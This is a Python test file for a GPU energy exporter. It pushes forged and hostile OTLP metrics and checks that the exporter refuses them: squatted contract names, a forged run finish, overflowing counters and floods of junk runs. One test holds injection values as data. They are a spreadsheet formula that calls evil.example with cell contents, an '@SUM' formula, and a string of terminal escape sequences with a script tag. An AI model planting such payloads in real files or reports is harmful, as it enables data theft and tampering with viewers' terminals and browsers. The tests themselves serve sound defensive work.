"""Hostile pushes against the running exporter (issue 20, items 4-9): squatting the training contract's
names, forging another run's finish or ranks, overflowing counters, values made to break spreadsheets,
terminals and reports, and one client flooding runs. Raw OTLP JSON and protobuf as an attacker sends them,
beside real trainers through the helper (the real OpenTelemetry SDK), on the fake NVML library.

The backdated-push cost (item 6) is measured in bench/ledger_backdated.py; here the work a backdated request
causes is counted (snapshot intervals the ledger recounts) and must not grow with how far back it is dated.
"""

from __future__ import annotations

import csv
import http.client
import io
import json
import sys
import time
import urllib.request
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import neighbour
import pytest
from fakenvml import Constant, Scenario, h100
from google.protobuf import json_format
from helpers import ExporterProcess, sample_value, samples, wait_until
from opentelemetry.proto.collector.metrics.v1.metrics_service_pb2 import ExportMetricsServiceRequest

from gpu_energy_exporter.training import start_run

# ----------------------------------------------------------------------------------------------------
# raw OTLP, as an attacker writes it


def _attrs(labels: Mapping[str, str]) -> list[dict[str, Any]]:
    return [{"key": k, "value": {"stringValue": v}} for k, v in labels.items()]


def _point(value: float, labels: Mapping[str, str], t_ns: int) -> dict[str, Any]:
    return {"attributes": _attrs(labels), "startTimeUnixNano": str(t_ns), "timeUnixNano": str(t_ns),
            "asDouble": value}


def _sum(name: str, value: float, labels: Mapping[str, str], t_ns: int, unit: str = "") -> dict[str, Any]:
    return {"name": name, "unit": unit, "sum": {"aggregationTemporality": 2, "isMonotonic": True,
                                                "dataPoints": [_point(value, labels, t_ns)]}}


def _gauge(name: str, value: float, labels: Mapping[str, str], t_ns: int) -> dict[str, Any]:
    return {"name": name, "gauge": {"dataPoints": [_point(value, labels, t_ns)]}}


def _doc(metrics: list[dict[str, Any]], resource: Mapping[str, str] | None = None) -> dict[str, Any]:
    rm: dict[str, Any] = {"scopeMetrics": [{"metrics": metrics}]}
    if resource:
        rm["resource"] = {"attributes": _attrs(resource)}
    return {"resourceMetrics": [rm]}


def _post(exp: ExporterProcess, doc: dict[str, Any], *, proto: bool = False, source: str = "127.0.0.1") -> int:
    """POST ``doc`` to the exporter's /v1/metrics from ``source``; the rejected data points it answers."""
    host, port = exp.address("otlp")
    if proto:
        body = json_format.ParseDict(doc, ExportMetricsServiceRequest()).SerializeToString()
        ctype = "application/x-protobuf"
    else:
        body, ctype = json.dumps(doc).encode(), "application/json"
    conn = http.client.HTTPConnection(host, port, timeout=10, source_address=(source, 0))
    try:
        conn.request("POST", "/v1/metrics", body, {"Content-Type": ctype})
        resp = conn.getresponse()
        data = resp.read()
        assert resp.status == 200, data
    finally:
        conn.close()
    if proto:
        from opentelemetry.proto.collector.metrics.v1.metrics_service_pb2 import ExportMetricsServiceResponse
        answer = ExportMetricsServiceResponse.FromString(data)
        return int(answer.partial_success.rejected_data_points)
    return int(json.loads(data or b"{}").get("partialSuccess", {}).get("rejectedDataPoints", 0))


def _strict(text: str) -> Any:
    """``json.loads`` as a strict parser: NaN and Infinity are errors."""
    def refuse(constant: str) -> None:
        raise ValueError(f"not JSON: {constant}")
    return json.loads(text, parse_constant=refuse)


def _get(exp: ExporterProcess, path: str) -> str:
    with urllib.request.urlopen(exp.metrics_url + path, timeout=10) as r:
        return str(r.read().decode())


def _runs(exp: ExporterProcess, run_id: str) -> list[dict[str, Any]]:
    return [r for r in _strict(_get(exp, "/api/v1/runs"))["runs"] if r["run_id"] == run_id]


@pytest.fixture
def node(start_exporter: type[ExporterProcess], fake_nvml_lib: Path, tmp_path: Path) -> Iterator[
        tuple[ExporterProcess, str, Path]]:
    """An exporter on one fake H100 drawing 300 W, with a runs CSV: (exporter, GPU UUID, CSV path)."""
    gpus = [h100(0, power=Constant(300.0))]
    Scenario(epoch=time.time() - 60, gpus=gpus).write(tmp_path / "scenario.ini")
    csv_path = tmp_path / "ledger" / "runs.csv"
    exp = start_exporter([f"--nvml.library={fake_nvml_lib}", "--collector.interval=200ms", "--runs.warmup=0s",
                          f"--runs.csv={csv_path}"],
                         {"FAKE_NVML_SCENARIO": str(tmp_path / "scenario.ini")}).wait_ready()
    yield exp, gpus[0].uuid, csv_path


def _train(exp: ExporterProcess, run_id: str, gpu: str, steps: int, *, pause: float = 0.05,
           between: Any = None) -> int:
    """A trainer through the helper (the real SDK): ``steps`` steps of 100 tokens, then finish. ``between``
    is called once half-way. Returns the tokens it counted."""
    run = start_run(run_id, model="tiny", endpoint=exp.otlp_url, export_interval=0.3, gpu_uuids=[gpu])
    for i in range(steps):
        run.step(tokens=100, samples=1, loss=1.0)
        time.sleep(pause)
        if i == steps // 2 and between is not None:
            between()
    run.finish()
    return steps * 100


def _finished(exp: ExporterProcess, run_id: str) -> list[dict[str, Any]]:
    return wait_until(lambda: [r for r in _runs(exp, run_id) if r["status"] not in ("running", "finishing")] or None,
                      timeout=30,
                      what=f"run {run_id} to finish")


# ----------------------------------------------------------------------------------------------------
# item 4: the contract is reserved


def test_squatting_the_contract_names_is_refused_alone_and_runs_still_count(
        node: tuple[ExporterProcess, str, Path]) -> None:
    exp, gpu, _ = node
    now = time.time_ns()
    squat = {"run_id": "squatter", "rank": "0", "gpu_uuid": gpu}
    # Before: one gauge `training_tokens` made every later run show tokens=None for the series TTL.
    assert _post(exp, _doc([_gauge("training.tokens", 5, squat, now),
                            _gauge("training_tokens_total", 5, squat, now),
                            _gauge("my.own.gauge", 1.0, squat, now)])) == 2  # the user's own gauge is kept
    # ... and a counter `training_run_finished` kept every run from finishing.
    assert _post(exp, _doc([_sum("training.run.finished", 1, squat, now)]), proto=True) == 1
    # The contract's labels only, and a run_id.
    assert _post(exp, _doc([_sum("training.tokens", 7, {**squat, "job": "x"}, now, "{token}")]), proto=True) == 1
    assert _post(exp, _doc([_sum("training.tokens", 7, {"rank": "0"}, now, "{token}")])) == 1
    text = exp.metrics()
    assert sample_value(text, "gpuenergy_otlp_points_rejected_total", reason="contract_violation") == 5
    assert sample_value(text, "my_own_gauge", **squat) == 1.0

    tokens = _train(exp, "after-squat", gpu, 20)
    [run] = _finished(exp, "after-squat")
    assert run["status"] == "finished"
    assert run["tokens"] == tokens
    assert run["energy_j"] > 0


# ----------------------------------------------------------------------------------------------------
# item 5: a run's lifecycle belongs to the run


def _labels_on_metrics(exp: ExporterProcess, run_id: str) -> dict[str, str]:
    def found() -> dict[str, str] | None:
        for labels, _ in samples(exp.metrics(), "training_tokens_total"):
            if labels.get("run_id") == run_id:
                return labels
        return None
    return wait_until(found, timeout=20, what=f"run {run_id} on /metrics")


def test_a_forged_finish_or_rank_from_another_client_is_refused_and_the_run_goes_on(
        node: tuple[ExporterProcess, str, Path]) -> None:
    exp, gpu, csv_path = node
    started = time.monotonic()

    def attack() -> None:
        labels = _labels_on_metrics(exp, "victim")  # readable by anyone who can scrape
        now = time.time_ns()
        # Before: one push of training_run_finished 1 with the victim's labels closed it at 4 s. Refused, and
        # since issue 29 refused by the store too (never stored, never exposed).
        assert _post(exp, _doc([_gauge("training.run.finished", 1, labels, now)])) == 1
        # A process.pid that is not the pushing process (the kernel says which it is): refused as a whole.
        assert _post(exp, _doc([_gauge("training.run.finished", 1, labels, now)],
                               {"service.name": "gpu-energy-training", "host.name": "elsewhere",
                                "process.pid": "4242", "service.instance.id": "forged"}), proto=True) == 1
        # A rank of its own, from another node, adding tokens and holding the finish back.
        _post(exp, _doc([_sum("training.tokens", 1e6, {**labels, "rank": "7"}, now, "{token}"),
                         _gauge("training.run.finished", 0, {**labels, "rank": "7"}, now)]), source="127.0.0.2")
        time.sleep(1.0)  # a few exports and snapshots with the forged points in

    tokens = _train(exp, "victim", gpu, 60, between=attack)
    elapsed = time.monotonic() - started
    [run] = _finished(exp, "victim")
    assert run["status"] == "finished"
    assert run["tokens"] == tokens  # neither cut at the forged finish nor padded by the forged rank
    assert run["ranks"] == 1
    assert run["duration_s"] > 0.6 * elapsed
    text = exp.metrics()
    assert (sample_value(text, "gpuenergy_ledger_points_refused_total", reason="not_run_owner") or 0) >= 1
    assert (sample_value(text, "gpuenergy_otlp_points_rejected_total", reason="identity_mismatch") or 0) >= 1
    assert (sample_value(text, "gpuenergy_ledger_points_refused_total", reason="foreign_rank") or 0) >= 1
    rows = wait_until(lambda: _rows(csv_path) or None, timeout=10, what="the CSV row")
    assert [r["run_id"] for r in rows] == ["victim"]


def _rows(path: Path) -> list[dict[str, str]]:
    if not path.exists():
        return []
    with path.open(newline="") as f:
        return list(csv.DictReader(f))


# ----------------------------------------------------------------------------------------------------
# item 7: non-finite results never appear, every JSON is strict


def test_overflowing_counters_never_reach_the_json_api(node: tuple[ExporterProcess, str, Path]) -> None:
    exp, gpu, _ = node
    t0 = time.time_ns()
    for rank in ("0", "1"):
        labels = {"run_id": "big", "rank": rank, "gpu_uuid": gpu}
        _post(exp, _doc([_sum("training.tokens", 0, labels, t0, "{token}")]))
    time.sleep(0.5)
    for rank in ("0", "1"):  # each finite; their sum is not
        labels = {"run_id": "big", "rank": rank, "gpu_uuid": gpu}
        _post(exp, _doc([_sum("training.tokens", 1.5e308, labels, time.time_ns(), "{token}"),
                         _gauge("training.loss", "NaN", labels, time.time_ns())]), proto=True)  # type: ignore[arg-type]
    run = wait_until(lambda: next(iter(_runs(exp, "big")), None), timeout=20, what="run big")
    assert run["tokens"] is None and run["j_per_token"] is None
    assert "not finite" in run["ledger_notes"] and "tokens" in run["ledger_notes"]
    doc = _strict(_get(exp, "/api/v1/run?id=big"))  # the timeline too
    assert doc["run_id"] == "big"
    _strict(_get(exp, "/api/v1/status"))
    assert "Inf" not in exp.metrics().split("gpuenergy_run_tokens_total", 1)[-1].split("\n", 1)[0]


# ----------------------------------------------------------------------------------------------------
# item 8: values made to break spreadsheets, terminals, logs and reports

HOSTILE_ID = '=HYPERLINK("http://evil.example/?d="&A1,"x")'
HOSTILE_MODEL = "\x1b]0;pwned\x07\x1b[2J<script>alert(1)</script>*bold*"


def test_hostile_values_are_neutralised_in_the_csv_terminal_log_and_report(
        node: tuple[ExporterProcess, str, Path], tmp_path: Path) -> None:
    from gpu_energy_exporter.client import report
    from gpu_energy_exporter.client import runs as runs_cli
    from gpu_energy_exporter.client.top import cli as top_cli

    exp, gpu, csv_path = node
    labels = {"run_id": HOSTILE_ID, "rank": "0", "gpu_uuid": gpu}
    t0 = time.time()
    _post(exp, _doc([_gauge("training.run.info", 1, {**labels, "model": HOSTILE_MODEL, "backend": "@SUM(1+1)"},
                            int(t0 * 1e9)),
                     _sum("training.tokens", 0, labels, int(t0 * 1e9), "{token}")]))
    time.sleep(0.6)
    # while it runs: the terminal view
    out = io.StringIO()
    assert top_cli.main(["--url", exp.metrics_url, "--once"], stdout=out, stderr=io.StringIO()) == 0
    assert "\x1b" not in out.getvalue() and "\x07" not in out.getvalue()
    t1 = time.time_ns()
    _post(exp, _doc([_sum("training.tokens", 500, labels, t1, "{token}"),
                     _gauge("training.run.finished", 1, labels, t1)]))
    [row] = wait_until(lambda: _rows(csv_path) or None, timeout=20, what="the CSV row")
    assert row["run_id"] == "'" + HOSTILE_ID  # OWASP: a spreadsheet shows it as text
    assert row["backend"] == "'@SUM(1+1)"
    # runs, from the CSV and from the exporter, as a table and as CSV
    for args in (["--csv", str(csv_path)], ["--url", exp.metrics_url]):
        out = io.StringIO()
        assert runs_cli.main(args, stdout=out, stderr=io.StringIO()) == 0
        assert "\x1b" not in out.getvalue() and "\x07" not in out.getvalue()
    out = io.StringIO()
    assert runs_cli.main(["--url", exp.metrics_url, "--format", "csv"], stdout=out, stderr=io.StringIO()) == 0
    [listed] = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert listed["run_id"].startswith("'=")
    # the log
    assert not [line for line in exp.lines if "\x1b" in line or "\x07" in line]
    # the report, from the run's JSON summary
    [summary] = list((csv_path.parent / "runs").glob("*.json"))
    rc = report.main([str(summary), "--url", exp.metrics_url, "--out", str(tmp_path / "rep")],
                     stdout=io.StringIO(), stderr=io.StringIO())
    assert rc == 0
    md = (tmp_path / "rep" / "report.md").read_text()
    page = (tmp_path / "rep" / "report.html").read_text()
    for text in (md, page):
        assert "<script>" not in text and "\x1b" not in text and "\x07" not in text
    assert "&lt;script&gt;" in md and "\\*bold\\*" in md


# ----------------------------------------------------------------------------------------------------
# item 9: one client's junk runs


def test_one_clients_junk_runs_are_bounded_and_never_lock_out_another(
        node: tuple[ExporterProcess, str, Path]) -> None:
    exp, gpu, csv_path = node
    junk = 0
    requests = []
    for request in range(8):  # 16 runs started and finished per request, from 127.0.0.2
        t = time.time_ns()
        metrics = []
        for i in range(16):
            labels = {"run_id": f"junk-{request}-{i}", "rank": "0", "gpu_uuid": gpu}
            metrics += [_sum("training.tokens", 1, labels, t, "{token}"), _gauge("training.run.finished", 1, labels, t)]
        requests.append({"doc": _doc(metrics), "proto": bool(request % 2), "source": "127.0.0.2"})
        junk += 16
    # From another process (issue 29: a client is the process the kernel sees, not its source address; the
    # test process pushing from 127.0.0.2 is the legit trainer's own process, the same identity).
    neighbour.push(exp.address("otlp"), requests)
    tokens = _train(exp, "legit", gpu, 10)  # from the test process: another identity
    [run] = _finished(exp, "legit")
    assert run["tokens"] == tokens
    time.sleep(1.0)
    rows = _rows(csv_path)
    junk_rows = [r for r in rows if r["run_id"].startswith("junk-")]
    # Before: every one of the 128 junk runs became a row and a JSON file (about 1,150 a minute at 20 req/s).
    assert len(junk_rows) <= 60 < junk
    assert "legit" in [r["run_id"] for r in rows]
    text = exp.metrics()
    assert (sample_value(text, "gpuenergy_ledger_points_refused_total", reason="client_new_runs") or 0) >= junk - 60


# ----------------------------------------------------------------------------------------------------
# item 6: the work a backdated request causes is bounded


def test_a_backdated_request_recounts_a_bounded_history_whatever_its_date() -> None:
    sys.path.insert(0, str(Path(__file__).parent))
    from test_ledger import T0, UUID_A, Clock, Harness, constant, point

    from gpu_energy_exporter.ledger import RunLedger
    from gpu_energy_exporter.ledger.snapshot_frames import Frame

    class Counting(RunLedger):
        """Counts the snapshot intervals it counts for a run (each asks who held the GPUs then)."""
        visited = 0

        def _holders(self, frame: Frame) -> Any:
            Counting.visited += 1
            return super()._holders(frame)

    def cost(back_s: float) -> int:
        clock = Clock()
        ledger = Counting(None, warmup_s=0.0, stale_after_s=600.0, clock=clock)
        h = Harness(ledger, clock, {UUID_A: constant(300.0)}, interval=0.1)  # the default 100 ms sampler
        h.push(point("victim", "training_tokens_total", 0, T0))
        h.run_until(T0 + 300, lambda t: h.push(point("victim", "training_tokens_total", 100 * (t - T0), t)))
        before = Counting.visited
        # one request: 16 new runs (one client), first point dated back_s before it arrived
        ledger.on_points([point(f"new-{i}", "training_tokens_total", 1, h.t - back_s) for i in range(16)])
        h.run_until(h.t + 0.1)
        ledger.collect()
        return Counting.visited - before

    # Before: 16 runs 20 s back made 16 recounts of the victim and 16 replays, ~9,700 intervals visited;
    # 200 s back ~10 times that.
    near, far = cost(20.0), cost(200.0)
    assert near <= 17 * (10.0 / 0.1 + 3), near  # each new run and the victim: at most --runs.max-backdate
    assert far <= near * 1.1, (near, far)


# ----------------------------------------------------------------------------------------------------
# the rules themselves, on plain values


def test_who_may_change_a_run_and_the_per_client_buckets() -> None:
    from gpu_energy_exporter.core.clientid import client_id
    from gpu_energy_exporter.ledger import clients

    def who(peer: str, host: str, pid: str, instance: str) -> str:
        return client_id(peer, (("host_name", host), ("process_pid", pid), ("service_instance_id", instance)))

    rank0 = who("10.0.0.5", "pod-a", "100", "u-0")
    rank1 = who("10.0.0.5", "pod-a", "101", "u-1")  # same pod: another process of the job
    forger = who("10.0.0.5", "pod-a", "999", "u-x")  # same pod, other process: may add a rank, never end one
    other_pod = who("10.0.0.9", "pod-b", "100", "u-0")  # even with rank 0's pid and instance id
    owners = {"0": rank0}
    assert clients.lifecycle_refusal(owners, "0", rank0) is None
    assert clients.lifecycle_refusal(owners, "0", forger) == clients.NOT_RUN_OWNER
    assert clients.lifecycle_refusal(owners, "1", rank1) is None
    assert clients.lifecycle_refusal(owners, "1", other_pod) == clients.FOREIGN_RANK
    assert clients.lifecycle_refusal({}, "0", other_pod) is None  # no progress yet: nobody owns it
    assert client_id("", ()) == ""  # anonymous: the same as a point recorded without a client

    bounds = clients.ClientBounds(max_active=2, new_per_minute=3, finished_per_minute=1)
    t = 1000.0
    for _ in range(3):
        assert bounds.may(clients.CLIENT_NEW_RUNS, rank0, t)
        bounds.take(clients.CLIENT_NEW_RUNS, rank0, t)
    assert not bounds.may(clients.CLIENT_NEW_RUNS, rank1, t)  # same peer address: the same bucket
    assert bounds.may(clients.CLIENT_NEW_RUNS, other_pod, t)  # another client is not held back
    assert not bounds.may(clients.CLIENT_NEW_RUNS, rank0, t + 19.0)  # 3 a minute: one more after 20 s
    assert bounds.may(clients.CLIENT_NEW_RUNS, rank0, t + 20.0)
    assert bounds.too_many_active([rank0, rank1, other_pod], rank0)
    assert not bounds.too_many_active([rank0, other_pod], rank1)


def test_one_requests_points_are_checked_per_origin() -> None:
    """The ledger checks a point's client and process once per origin (run, rank, client, resource) within
    one chunk of points: a point of another client, rank or process between two of one origin is checked
    again, and so is every finish."""
    sys.path.insert(0, str(Path(__file__).parent))
    from test_ledger import T0, Clock, point

    from gpu_energy_exporter.core.clientid import client_id
    from gpu_energy_exporter.ledger import RunLedger, clients, process_claims

    def pt(name: str, value: float, client: str, resource: tuple[tuple[str, str], ...], rank: str = "0") -> Any:
        p = point("r", name, value, T0 + 1, rank=rank)
        p.client, p.resource = client, resource
        return p

    res_a = (("host_name", "pod-a"), ("process_pid", "100"), ("service_instance_id", "u-0"),
             ("slurm_job_id", "7"))
    res_b = (("host_name", "pod-a"), ("process_pid", "101"), ("service_instance_id", "u-1"),
             ("slurm_job_id", "8"))  # another process of the node, claiming another job
    owner = client_id("10.0.0.5", res_a)
    forger = client_id("10.0.0.5", (("host_name", "pod-a"), ("process_pid", "999")))
    other = client_id("10.0.0.5", res_b)
    # the same client (its identity has no container id) from another container, claiming another job
    res_c = (*res_a[:3], ("slurm_job_id", "8"), ("container_id", "c2"))
    assert client_id("10.0.0.5", res_c) == owner
    ledger = RunLedger(None, warmup_s=0.0, clock=Clock(T0 + 1))
    ledger.on_points([pt("training_tokens_total", 100, owner, res_a)])  # the run starts: rank 0 is owner's
    rank2 = client_id("10.0.0.5", (("host_name", "pod-a"), ("process_pid", "102")))
    ledger.on_points([pt("training_tokens_total", 1, rank2, (), rank="2")])  # same node: rank 2 is rank2's
    ledger.on_points([
        pt("training_tokens_total", 200, owner, res_a),
        pt("training_tokens_total", 9_000, forger, res_a),  # same run, rank and resource: another client
        pt("training_samples_total", 2, owner, res_a),
        pt("training_tokens_total", 9_000, other, res_b, rank="1"),  # its job identity disagrees
        pt("training_tokens_total", 300, owner, res_a),
        pt("training_tokens_total", 9_000, owner, res_c),  # same client, another resource: its job disagrees
        pt("training_samples_total", 3, owner, res_a),
        pt("training_tokens_total", 9_000, owner, res_a, rank="2"),  # rank 2 is another client's (above)
        pt("training_run_finished", 1, forger, res_a),  # a finish from another client, after owner's point
        pt("training_steps_total", 2, owner, res_a),
        pt("training_run_finished", 1, forger, res_a),
    ])
    assert ledger._clients.refused[clients.NOT_RUN_OWNER] == 4
    assert ledger._claims.refused[process_claims.REFUSED_JOB] == 2
    run = ledger.run("r")
    assert run is not None and run["tokens"] == 301 and run["status"] == "running"
    # owner's run "q" takes the one finish a minute allows; then a finish of "r" right after a point of the
    # same origin is still checked against the bucket
    ledger = RunLedger(None, warmup_s=0.0, clock=Clock(T0 + 1), finished_runs_per_client_per_minute=1)
    q = [pt("training_tokens_total", 5, owner, res_a), pt("training_run_finished", 1, owner, res_a)]
    for p in q:
        p.run_id = p.labels["run_id"] = "q"
    ledger.on_points(q)
    ledger.on_points([pt("training_tokens_total", 400, owner, res_a), pt("training_tokens_total", 401, owner, res_a),
                      pt("training_run_finished", 1, owner, res_a)])
    assert ledger._clients.refused[clients.CLIENT_FINISHED_RUNS] == 1
    assert ledger.run("r")["status"] == "running"  # type: ignore[index]
